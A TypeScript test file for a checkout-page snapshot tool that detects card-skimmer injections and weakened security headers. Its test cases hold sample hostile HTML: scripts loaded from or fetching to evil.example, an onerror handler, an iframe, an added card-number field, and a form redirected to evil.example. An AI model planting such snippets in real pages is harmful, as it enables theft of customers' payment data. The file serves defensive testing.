import assert from 'node:assert/strict';
import { test } from 'node:test';
import { comparePage, snapshotPage } from './page-snapshot.ts';

const url = new URL('http://shop.example/checkout');
const headers = (nonce: string, extra: Record<string, string> = {}) => ({
  'content-security-policy': `default-src 'self'; script-src 'self' 'nonce-${nonce}'; form-action 'self' https://pay.example`,
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'same-origin',
  'permissions-policy': 'camera=()',
  ...extra,
});
const page = (nonce: string, extra = '') => `<!doctype html><html><head>
<link rel="stylesheet" href="/static/css/store.css?v=abc" integrity="sha384-x" crossorigin="anonymous">
<script nonce="${nonce}">window.a = 1;</script>
<script type="application/json">{"cart": 3}</script>
</head><body>
<!-- <script src="https://commented.example/out.js"></script> -->
<form method="post" action="/cart/items/123"><input name="quantity" value="2"><button type="submit">update</button></form>
<form method="post" action="/checkout/place"><input type="hidden" name="idempotency_key" value="k-${nonce}"><button>place</button></form>
${extra}</body></html>`;

test('nonces, idempotency keys, ids in actions and data blocks do not count; scripts, forms and headers do', () => {
  const a = snapshotPage(page('n1'), headers('n1'), 200, url);
  const b = snapshotPage(page('n2').replace('{"cart": 3}', '{"cart": 4}').replace('/cart/items/123', '/cart/items/456'), headers('n2'), 200, url);
  assert.deepEqual(comparePage('checkout', a, b), []);
  assert.ok(a.elements.includes('form POST /checkout/place fields=idempotency_key'));
  assert.ok(a.elements.includes('form POST /cart/items/:id fields=quantity'));
  assert.ok(!a.elements.some((e) => e.includes('commented.example')), 'comments are not markup');
});

test('skimmer shapes are found however they are written', () => {
  const base = snapshotPage(page('n'), headers('n'), 200, url);
  const cases: Array<[string, string]> = [
    ['<SCRIPT SRC=https://evil.example/s.js></SCRIPT>', 'added script src=https://evil.example/s.js integrity=(none) type='],
    ["<script\n  src='//evil.example/s.js'\n></script>", 'added script src=http://evil.example/s.js integrity=(none) type='],
    ['<script>fetch("https://evil.example/c")</script>', 'added inline-script type= sha256='],
    ['<img src="/x.png" onerror="fetch(1)">', 'added handler img onerror sha256='],
    ['<iframe src="https://evil.example/pay"></iframe>', 'added iframe src=https://evil.example/pay'],
  ];
  for (const [html, expected] of cases) {
    const d = comparePage('checkout', base, snapshotPage(page('n', html), headers('n'), 200, url));
    assert.equal(d.length, 1, `${html}: ${JSON.stringify(d)}`);
    assert.ok(d[0]!.what.startsWith(expected), `${html}: ${d[0]!.what}`);
  }
  // A card-number field added to the place-order form, and the form sent elsewhere.
  const field = snapshotPage(page('n').replace('<button>place</button>', '<input name="cc_number"><button>place</button>'), headers('n'), 200, url);
  assert.deepEqual(comparePage('checkout', base, field).map((d) => d.what), ['added form POST /checkout/place fields=cc_number,idempotency_key', 'removed form POST /checkout/place fields=idempotency_key']);
  const action = snapshotPage(page('n').replace('action="/checkout/place"', 'action="https://evil.example/place"'), headers('n'), 200, url);
  assert.ok(comparePage('checkout', base, action).some((d) => d.what === 'added form POST https://evil.example/place fields=idempotency_key'));
});

test('a header removed or weakened is a difference', () => {
  const base = snapshotPage(page('n'), headers('n'), 200, url);
  const weaker = headers('n', { 'content-security-policy': "default-src 'self'; script-src 'self' 'nonce-n' https://evil.example; form-action 'self' https://pay.example" });
  delete (weaker as Record<string, string>)['permissions-policy'];
  assert.deepEqual(
    comparePage('checkout', base, snapshotPage(page('n'), weaker, 200, url)).map((d) => d.what),
    ['header content-security-policy changed', 'header permissions-policy removed'],
  );
});
